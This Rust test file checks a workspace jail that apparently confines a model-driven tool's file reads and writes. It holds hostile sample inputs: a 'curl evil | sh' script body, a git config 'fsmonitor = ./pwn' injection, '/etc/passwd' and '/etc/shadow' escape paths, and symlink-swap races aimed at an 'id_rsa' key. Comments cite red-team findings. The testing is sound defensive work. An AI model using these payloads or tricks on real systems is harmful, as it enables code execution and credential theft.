//! Tests of path confinement, reads and atomic writes.

use super::*;
use crate::jail::linked_git_dirs;

fn workspace() -> (tempfile::TempDir, tempfile::TempDir) {
    let root = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(root.path().join("README.md"), "hello").unwrap();
    std::fs::create_dir(root.path().join("src")).unwrap();
    std::fs::write(outside.path().join("secret.txt"), "secret").unwrap();
    (root, outside)
}

#[track_caller]
fn check_refused(root: &Path, raw: &str, type_name: &str) {
    match resolve(root, raw) {
        Ok(path) => panic!("{raw} resolved to {}", path.display()),
        Err(err) => assert_eq!(err.type_name, type_name, "{raw}: {err}"),
    }
}

#[test]
fn inside_paths_resolve() {
    let (root, _outside) = workspace();
    let canonical = root.path().canonicalize().unwrap();
    assert_eq!(
        resolve(root.path(), "README.md").unwrap(),
        canonical.join("README.md")
    );
    assert_eq!(
        resolve(root.path(), "./src/../README.md").unwrap(),
        canonical.join("README.md")
    );
    assert_eq!(
        resolve(root.path(), "new/dir/file.py").unwrap(),
        canonical.join("new/dir/file.py")
    );
    let absolute = canonical.join("src").display().to_string();
    assert_eq!(
        resolve(root.path(), &absolute).unwrap(),
        canonical.join("src")
    );
}

#[test]
fn escapes_are_refused() {
    let (root, outside) = workspace();
    check_refused(root.path(), "../x", "PermissionError");
    check_refused(root.path(), "newdir/../../x", "PermissionError");
    check_refused(root.path(), "/etc/passwd", "PermissionError");
    check_refused(root.path(), "a\0b", "ValueError");
    let secret = outside.path().join("secret.txt").display().to_string();
    check_refused(root.path(), &secret, "PermissionError");
}

#[cfg(unix)]
#[test]
fn symlinks_out_are_refused() {
    let (root, outside) = workspace();
    std::os::unix::fs::symlink(outside.path(), root.path().join("out")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("missing"), root.path().join("dangling"))
        .unwrap();
    std::os::unix::fs::symlink(root.path().join("README.md"), root.path().join("inner")).unwrap();
    check_refused(root.path(), "out/secret.txt", "PermissionError");
    check_refused(root.path(), "out/new.txt", "PermissionError");
    check_refused(root.path(), "dangling", "PermissionError");
    check_refused(root.path(), "dangling/x", "PermissionError");
    let inner = resolve(root.path(), "inner").unwrap();
    assert_eq!(read_text(&inner, "inner").unwrap(), "hello");
}

#[test]
fn reads_map_errors_to_python_exceptions() {
    let (root, _outside) = workspace();
    let dir = resolve(root.path(), "src").unwrap();
    assert_eq!(
        read_text(&dir, "src").unwrap_err().type_name,
        "IsADirectoryError"
    );
    let missing = resolve(root.path(), "missing.txt").unwrap();
    let err = read_text(&missing, "missing.txt").unwrap_err();
    assert_eq!(err.type_name, "FileNotFoundError");
    assert!(err.message.contains("missing.txt"));
    std::fs::write(root.path().join("bin.dat"), [0xff, 0xfe, 0x00]).unwrap();
    let binary = resolve(root.path(), "bin.dat").unwrap();
    assert_eq!(
        read_text(&binary, "bin.dat").unwrap_err().type_name,
        "UnicodeDecodeError"
    );
}

/// The message names the bound the caller read with (the edit read-back's is not `read_file`'s).
#[test]
fn a_file_past_the_bound_is_refused_naming_that_bound() {
    let (root, _outside) = workspace();
    std::fs::write(root.path().join("big.txt"), "0123456789").unwrap();
    let path = resolve(root.path(), "big.txt").unwrap();
    let err = read_bounded(&path, "big.txt", 9).unwrap_err();
    assert_eq!(err.type_name, "OSError");
    assert_eq!(
        err.message,
        "file too large to read: 'big.txt' is 10 bytes (limit 9)"
    );
}

#[test]
fn writes_are_atomic_and_create_parents() {
    let (root, _outside) = workspace();
    let target = resolve(root.path(), "pkg/mod.py").unwrap();
    write_atomic(&target, "x = 1\n").unwrap();
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "x = 1\n");
    write_atomic(&target, "x = 2\n").unwrap();
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "x = 2\n");
    let leftovers: Vec<_> = std::fs::read_dir(target.parent().unwrap())
        .unwrap()
        .collect();
    assert_eq!(leftovers.len(), 1, "no temporary files left behind");
}

#[track_caller]
fn check_target(root: &Path, raw: &str, expect_rel: &str) -> crate::policy::Target {
    let resolved = resolve_target(root, raw).unwrap();
    assert_eq!(resolved.target.rel, expect_rel, "{raw}");
    assert_eq!(resolved.target.spelled, raw);
    assert_eq!(resolved.path, root.canonicalize().unwrap().join(expect_rel));
    resolved.target
}

#[test]
fn a_python_environment_is_known_by_its_marker_not_its_name() {
    let (root, _outside) = workspace();
    let root = root.path();
    std::fs::create_dir_all(root.join("venv/bin")).unwrap();
    std::fs::write(root.join("venv/pyvenv.cfg"), "home = /usr/bin\n").unwrap();
    std::fs::write(root.join("venv/bin/activate"), "# activate\n").unwrap();
    std::fs::create_dir_all(root.join("envs/conda/conda-meta")).unwrap();
    std::fs::create_dir_all(root.join("envs/conda/lib/python3.11/site-packages")).unwrap();
    assert!(check_target(root, "venv/bin/activate", "venv/bin/activate").in_virtual_env);
    assert!(check_target(root, "venv/pyvenv.cfg", "venv/pyvenv.cfg").in_virtual_env);
    let pth = "envs/conda/lib/python3.11/site-packages/x.pth";
    assert!(check_target(root, pth, pth).in_virtual_env);
    assert!(!check_target(root, "src/main.py", "src/main.py").in_virtual_env);
    // A workspace that is, or lies in, an environment is protected as a whole (F1 of red-team
    // round 5): its `bin/activate` runs all the same.
    assert!(check_target(&root.join("venv/bin"), "activate", "activate").in_virtual_env);
    std::fs::write(root.join("pyvenv.cfg"), "home = /usr/bin\n").unwrap();
    assert!(check_target(root, "src/main.py", "src/main.py").in_virtual_env);
}

/// `config`, `objects/`, `refs/` and `HEAD` written one by one (F1 of red-team round 3): the
/// write that completes the layout is judged inside the git directory it makes, whichever
/// comes last, and so is the one that completes an environment; at the root too.
#[test]
fn a_write_is_judged_by_what_it_makes_of_its_directories() {
    let (root, _outside) = workspace();
    let root = root.path();
    std::fs::create_dir_all(root.join("src/objects/info")).unwrap();
    std::fs::create_dir_all(root.join("src/refs/heads")).unwrap();
    std::fs::write(root.join("src/config"), "[core]\n").unwrap();
    assert!(!check_target(root, "src/config", "src/config").in_git_dir);
    assert!(check_target(root, "src/HEAD", "src/HEAD").in_git_dir);
    std::fs::remove_dir_all(root.join("src/refs")).unwrap();
    std::fs::write(root.join("src/HEAD"), "ref: refs/heads/main\n").unwrap();
    assert!(check_target(root, "src/refs/heads/x", "src/refs/heads/x").in_git_dir);
    assert!(check_target(root, "src/commondir", "src/commondir").in_git_dir);
    assert!(!check_target(root, "src/other/x", "src/other/x").in_git_dir);
    // At the root: `HEAD` where `objects/` and `refs/` are.
    std::fs::create_dir_all(root.join("objects")).unwrap();
    std::fs::create_dir_all(root.join("refs")).unwrap();
    assert!(check_target(root, "HEAD", "HEAD").in_git_dir);
    assert!(!check_target(root, "README.md", "README.md").in_git_dir);

    std::fs::create_dir_all(root.join("env/etc/conda/activate.d")).unwrap();
    let history = "env/conda-meta/history";
    assert!(check_target(root, history, history).in_virtual_env);
    assert!(check_target(root, "conda-meta/history", "conda-meta/history").in_virtual_env);
    assert!(!check_target(root, "env/etc/x.sh", "env/etc/x.sh").in_virtual_env);
}

#[test]
fn a_git_directory_is_known_by_its_layout_not_its_name() {
    let (root, _outside) = workspace();
    let root = root.path();
    for dir in [
        ".bare/objects",
        ".bare/refs",
        ".bare/hooks",
        ".bare/worktrees/main",
    ] {
        std::fs::create_dir_all(root.join(dir)).unwrap();
    }
    std::fs::write(root.join(".bare/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(
        root.join(".bare/worktrees/main/HEAD"),
        "ref: refs/heads/main\n",
    )
    .unwrap();
    std::fs::write(root.join(".bare/worktrees/main/commondir"), "../..\n").unwrap();
    std::fs::create_dir_all(root.join("main")).unwrap();
    let pointer = format!("gitdir: {}\n", root.join(".bare/worktrees/main").display());
    std::fs::write(root.join("main/.git"), pointer).unwrap();
    std::fs::write(root.join("src/.git"), "gitdir: ../main\n").unwrap();
    std::fs::create_dir_all(root.join("refs")).unwrap();
    std::fs::create_dir_all(root.join("objects")).unwrap();

    assert!(check_target(root, ".bare/config", ".bare/config").in_git_dir);
    assert!(check_target(root, ".bare/hooks/pre-commit", ".bare/hooks/pre-commit").in_git_dir);
    let worktree = ".bare/worktrees/main/config.worktree";
    assert!(check_target(root, worktree, worktree).in_git_dir);
    assert!(!check_target(root, "main/a.py", "main/a.py").in_git_dir);
    // A workspace that is itself one (a `HEAD` added) is protected as a whole (F1 of red-team
    // round 5: a bare repository opened as the folder), and so is one inside it, but for a
    // worktree of it there (a `.git` file naming its `worktrees/`): only its git directory is
    // protected. A worktree of another repository (`main`, `.bare`'s) is no worktree of this
    // one: git reads nothing there, but nothing says this is not a folder it reads.
    std::fs::write(root.join("HEAD"), "x\n").unwrap();
    std::fs::create_dir_all(root.join("worktrees/own")).unwrap();
    std::fs::create_dir_all(root.join("own")).unwrap();
    std::fs::write(root.join("own/.git"), "gitdir: ../worktrees/own\n").unwrap();
    assert!(check_target(root, "src/main.py", "src/main.py").in_git_dir);
    assert!(check_target(&root.join(".bare/hooks"), "pre-commit", "pre-commit").in_git_dir);
    let in_hooks = check_target(&root.join(".bare/hooks"), ".", ".");
    assert!(in_hooks.in_git_dir && in_hooks.root.ends_with("/.bare/hooks"));
    assert!(check_target(&root.join("main"), "a.py", "a.py").in_git_dir);
    assert!(!check_target(&root.join("own"), "a.py", "a.py").in_git_dir);
    let pointer = check_target(&root.join("own"), ".git", ".git");
    assert!(crate::policy::protected_rule(&pointer).is_some());

    assert_eq!(
        linked_git_dirs(root, &root.join("main/.git")),
        [root.join(".bare")]
    );
    // Not a git directory, the workspace itself, or a `.git` directory: nothing.
    assert!(linked_git_dirs(root, &root.join("src/.git")).is_empty());
    std::fs::write(root.join("src/.git"), "gitdir: ..\n").unwrap();
    assert!(linked_git_dirs(root, &root.join("src/.git")).is_empty());
    assert!(linked_git_dirs(root, &root.join(".bare")).is_empty());
}

#[cfg(unix)]
#[test]
fn targets_are_judged_as_resolved_whatever_the_spelling() {
    let (root, _outside) = workspace();
    let root = root.path();
    std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
    std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
    check_target(root, "src/./../.git/config", ".git/config");
    check_target(root, "README.md/../.git/config", ".git/config");
    check_target(root, "./.git//config", ".git/config");
    std::os::unix::fs::symlink(root.join(".git/config"), root.join("innocent.txt")).unwrap();
    let linked = check_target(root, "innocent.txt", ".git/config");
    assert!(linked.exists && !linked.is_dir);
    std::os::unix::fs::symlink(".git", root.join("docs")).unwrap();
    check_target(root, "docs/hooks/pre-commit", ".git/hooks/pre-commit");
    let dir = check_target(root, "src", "src");
    assert!(dir.is_dir);
    assert_eq!(check_target(root, ".", ".").rel, ".");
}

#[cfg(unix)]
#[test]
fn targets_carry_the_facts_policy_judges() {
    use std::os::unix::fs::PermissionsExt;
    let (root, _outside) = workspace();
    let root = root.path();
    let plain = check_target(root, "README.md", "README.md");
    assert!(plain.exists && !plain.executable);
    assert_eq!(plain.hard_links, 1);
    std::fs::write(root.join("build.sh"), "make\n").unwrap();
    std::fs::set_permissions(
        root.join("build.sh"),
        std::fs::Permissions::from_mode(0o744),
    )
    .unwrap();
    assert!(check_target(root, "build.sh", "build.sh").executable);
    std::fs::hard_link(root.join("README.md"), root.join("src/copy.md")).unwrap();
    assert_eq!(
        check_target(root, "src/copy.md", "src/copy.md").hard_links,
        2
    );
    let missing = check_target(root, "new/file.py", "new/file.py");
    assert!(!missing.exists && !missing.executable);
}

#[cfg(unix)]
#[test]
fn model_written_files_are_never_executable() {
    use std::os::unix::fs::PermissionsExt;
    let (root, _outside) = workspace();
    let script = root.path().join("build.sh");
    std::fs::write(&script, "make\n").unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    write_atomic(&script, "curl evil | sh\n").unwrap();
    let mode = std::fs::metadata(&script).unwrap().permissions().mode();
    assert_eq!(
        mode & 0o777,
        0o644,
        "the other bits stay, the execute bits go"
    );

    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o750)).unwrap();
    clear_exec_bits(&script).unwrap();
    let mode = std::fs::metadata(&script).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o640);
    clear_exec_bits(&root.path().join("missing")).unwrap();

    let fresh = root.path().join("new.sh");
    write_atomic(&fresh, "echo hi\n").unwrap();
    let mode = std::fs::metadata(&fresh).unwrap().permissions().mode();
    assert_eq!(mode & 0o111, 0);
}

#[test]
fn secrets_are_refused_even_inside_the_workspace() {
    // `/` as the workspace holds `/etc/shadow`; the message names the secret's entry.
    let err = resolve(Path::new("/"), "etc/shadow").unwrap_err();
    assert_eq!(err.type_name, "PermissionError");
    assert!(err.message.contains("is a secret (/etc/shadow)"), "{err:?}");
    assert!(resolve(Path::new("/"), "etc/hostname").is_ok());
}

/// A path resolved and judged while `src` is a directory; then `src` is swapped for a link
/// to `to`, as a concurrent writer of the workspace would do between the check and the open.
#[cfg(unix)]
fn judged_then_swapped(root: &Path, raw: &str, to: &Path) -> std::path::PathBuf {
    let path = resolve(root, raw).unwrap();
    std::fs::rename(root.join("src"), root.join("src.moved")).unwrap();
    std::os::unix::fs::symlink(to, root.join("src")).unwrap();
    path
}

#[cfg(unix)]
#[test]
fn a_read_never_follows_a_link_swapped_in_after_the_check() {
    let (root, outside) = workspace();
    std::fs::write(outside.path().join("id_rsa"), "PRIVATE KEY").unwrap();
    std::fs::write(root.path().join("src/id_rsa"), "decoy").unwrap();
    let path = judged_then_swapped(root.path(), "src/id_rsa", outside.path());
    let read = read_bounded(&path, "src/id_rsa", MAX_READ_BYTES);
    assert!(!format!("{read:?}").contains("PRIVATE"), "{read:?}");
    assert_eq!(read.unwrap_err().type_name, "PermissionError");
    let read = read_text(&path, "src/id_rsa");
    assert!(!format!("{read:?}").contains("PRIVATE"), "{read:?}");
}

#[cfg(unix)]
#[test]
fn a_write_never_follows_a_link_swapped_in_after_the_check() {
    let (root, outside) = workspace();
    let git = root.path().join(".git");
    std::fs::create_dir(&git).unwrap();
    std::fs::write(git.join("config"), "[core]\n").unwrap();
    std::fs::write(root.path().join("src/config"), "x").unwrap();

    // Into a protected directory of the workspace: `.git/config` stays as it was.
    let path = judged_then_swapped(root.path(), "src/config", &git);
    let err = write_atomic(&path, "[core]\n\tfsmonitor = ./pwn\n").unwrap_err();
    assert_eq!(err.type_name, "PermissionError", "{err}");
    assert_eq!(
        std::fs::read_to_string(git.join("config")).unwrap(),
        "[core]\n"
    );
    assert_eq!(entries(&git), ["config"]);

    // Out of the workspace, through missing directories too: nothing is made there.
    std::fs::remove_file(root.path().join("src")).unwrap();
    std::fs::rename(root.path().join("src.moved"), root.path().join("src")).unwrap();
    for raw in ["src/new.txt", "src/a/b/new.txt"] {
        let path = resolve(root.path(), raw).unwrap();
        std::fs::rename(root.path().join("src"), root.path().join("src.moved")).unwrap();
        std::os::unix::fs::symlink(outside.path(), root.path().join("src")).unwrap();
        let err = write_atomic(&path, "RACED").unwrap_err();
        assert_eq!(err.type_name, "PermissionError", "{raw}: {err}");
        assert_eq!(entries(outside.path()), ["secret.txt"], "{raw}");
        std::fs::remove_file(root.path().join("src")).unwrap();
        std::fs::rename(root.path().join("src.moved"), root.path().join("src")).unwrap();
    }
}

#[cfg(unix)]
#[test]
fn clearing_exec_bits_never_follows_a_link_swapped_in_after_the_check() {
    use std::os::unix::fs::PermissionsExt;
    let (root, outside) = workspace();
    let tool = outside.path().join("tool");
    std::fs::write(&tool, "#!/bin/sh\n").unwrap();
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(root.path().join("src/tool"), "x").unwrap();
    let path = judged_then_swapped(root.path(), "src/tool", outside.path());
    assert!(clear_exec_bits(&path).is_err());
    let mode = std::fs::metadata(&tool).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o755);
}

#[cfg(unix)]
fn entries(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// A client may name the workspace root through a link; below it, nothing is followed.
#[cfg(unix)]
#[test]
fn the_root_may_be_named_through_a_link_but_nothing_below_it_is_followed() {
    let (root, outside) = workspace();
    let names = tempfile::tempdir().unwrap();
    let linked_root = names.path().join("project");
    std::os::unix::fs::symlink(root.path(), &linked_root).unwrap();
    std::os::unix::fs::symlink(outside.path(), root.path().join("out")).unwrap();
    let readme = follow_root_links(&linked_root, &linked_root.join("README.md"));
    assert_eq!(read_text(&readme, "README.md").unwrap(), "hello");
    write_atomic(
        &follow_root_links(&linked_root, &linked_root.join("src/new.py")),
        "x",
    )
    .unwrap();
    assert!(root.path().join("src/new.py").exists());
    let through = follow_root_links(&linked_root, &linked_root.join("out/secret.txt"));
    assert_eq!(
        read_text(&through, "out/secret.txt").unwrap_err().type_name,
        "PermissionError"
    );
    let err = write_atomic(
        &follow_root_links(&linked_root, &linked_root.join("out/x")),
        "x",
    );
    assert_eq!(err.unwrap_err().type_name, "PermissionError");
    assert_eq!(entries(outside.path()), ["secret.txt"]);
}
